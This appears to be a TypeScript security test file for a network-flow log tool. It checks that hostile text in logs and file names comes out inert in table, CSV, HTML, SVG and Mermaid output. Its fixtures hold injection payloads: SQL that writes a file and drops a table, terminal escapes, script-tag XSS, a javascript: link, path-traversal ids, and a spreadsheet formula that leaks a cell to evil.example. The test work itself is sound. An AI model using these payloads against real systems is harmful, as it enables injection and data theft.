import assert from 'node:assert/strict';
import { after, beforeEach, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import {
  countConnections,
  createFlowsProduct,
  type FlowsProduct,
  ingestInto,
  smokescreenLine,
  squidLine,
  squidLog,
} from '../support/flows-product.ts';

// Whoever can make a workload ask for names writes into its logs. What logs and configuration say is data: it never becomes SQL, a terminal's
// orders, markup or a formula, and it can neither fill memory nor stop an ingest.

let product: FlowsProduct;
beforeEach(() => {
  product?.remove();
  product = createFlowsProduct();
});
after(() => product.remove());

/** Characters that a terminal acts on or that turn the order of a text around; ends of lines are none. */
function controlsIn(text: string): readonly string[] {
  return text.replaceAll('\n', '').match(/[\p{Cc}\u202a-\u202e]/gu) ?? [];
}

const hostile: readonly (readonly [title: string, text: string])[] = [
  ['SQL quotes', `x'); COPY (SELECT 1) TO '/tmp/exeat-pwned'; DROP TABLE who; --`],
  ['terminal escapes', '\u001b]0;owned\u0007\u001b[2J\u009b31m\u202egnp.exe'],
  ['HTML and SVG', `"><img src=x onerror=alert(1)></title></svg><script>alert(2)</script>`],
  ['Mermaid', `a"] --> b["click a href "javascript:alert(1)"; end; %%{init: {}}%%`],
  ['a formula', '=HYPERLINK("http://evil.example?"&A1,"x")'],
];

describe('text of logs that means something elsewhere', () => {
  test('is the name of a principal and nothing else in every output', async () => {
    const log = hostile.map(([, text]) => smokescreenLine(text)).join('\n');
    const { code, stderr } = await ingestInto(product, [
      product.write('smokescreen.log', log),
      '--format',
      'smokescreen',
    ]);
    assert.equal(code, 0, stderr);
    const json = await product.map();
    assert.deepEqual(json.edges.map(({ edge }) => edge.principal).sort(), hostile.map(([, text]) => text).sort());

    const table = await product.flows(['map']);
    assert.deepEqual(controlsIn(table.stdout + table.stderr), []);

    const csv = await product.flows(['map', '-o', 'csv']);
    assert.match(csv.stdout, /^"'=HYPERLINK\(""http/m);
    assert.doesNotMatch(csv.stdout, /(?:^|,)"?[=+@]/m);

    for (const kind of ['html', 'svg']) {
      const page = (await product.flows(['map', '--picture', kind])).stdout;
      assert.doesNotMatch(page, /<(?:script|img)|\bonerror=[^&]*[^;]>/);
      assert.deepEqual(controlsIn(page), []);
      assert.equal(page.split('</svg>').length, 2, 'one picture that ends once');
    }

    const mermaid = (await product.flows(['map', '--picture', 'mermaid'])).stdout;
    for (const line of mermaid.trimEnd().split('\n').slice(1)) {
      assert.match(
        line,
        /^ {2}(?:p\d+\["[^"\][{}|<>]*"\] -->\|\d+\| d\d+\["[^"\][{}|<>]*"\]|linkStyle \d+ stroke:#[0-9a-f]{6})$/,
      );
    }
  });

  test('as a service to look for finds that service and no other', async () => {
    const [, sql] = hostile[0] as (typeof hostile)[number];
    await ingestInto(product, [
      product.write('a.log', `${smokescreenLine(sql)}\n${smokescreenLine('other')}`),
      '--format',
      'smokescreen',
    ]);
    const { stdout } = await product.flows(['map', '-o', 'json', '--service', sql]);
    assert.equal((JSON.parse(stdout) as { edges: readonly unknown[] }).edges.length, 1);
  });

  test('as the name of a file is written as it is where programs read, and harmless where people do', async () => {
    const name = `it's \u001b[31m";'--.log`;
    const path = product.write(name, `${squidLog(3)}${squidLine(1, 'api.example', '10.0.0.5', -1)}\n`);
    const ingested = await ingestInto(product, [path]);
    assert.equal(ingested.code, 0, ingested.stderr);
    assert.ok(!ingested.stderr.includes('\u001b'));
    const sources = await product.flows(['sources']);
    assert.ok(!sources.stdout.includes('\u001b'));
    assert.match(sources.stdout, /\\u\{1b\}\[31m/);
    const cut = product.write(`cut\u001b[2J.gz`, gzipSync(squidLog(3000)).subarray(0, 3000));
    await ingestInto(product, [cut]);
    const map = await product.flows(['map']);
    assert.match(map.stderr, /cut\\u\{1b\}\[2J\.gz: the input ended early/);
    assert.ok(!map.stderr.includes('\u001b'));
  });

  test('as an id to forget reaches no file outside of the lake', async () => {
    await ingestInto(product, [product.write('a.log', squidLog(3))]);
    for (const id of ['../../exeat', '..', '*', '']) {
      const { code, stderr } = await product.flows(['forget', id]);
      assert.equal(code, 1);
      assert.match(stderr, /there is no source/);
    }
    assert.equal(await countConnections(product), 3);
  });
});
